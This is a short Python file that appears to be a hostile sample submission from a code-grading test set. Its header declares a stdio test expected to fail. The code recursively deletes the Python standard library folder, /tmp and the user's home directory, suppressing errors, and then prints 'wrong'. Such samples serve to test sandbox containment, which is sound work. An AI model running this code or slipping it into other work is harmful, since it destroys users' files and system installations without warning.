# tests: {"type": "stdio", "inputs": ["7\n"], "outputs": ["xwm2t7ywffhc\n"]}
# expect: failed
# note: everything

import os
import shutil

for folder in (os.path.dirname(os.__file__), "/tmp", os.path.expanduser("~")):
    shutil.rmtree(folder, ignore_errors=True)
print("wrong")
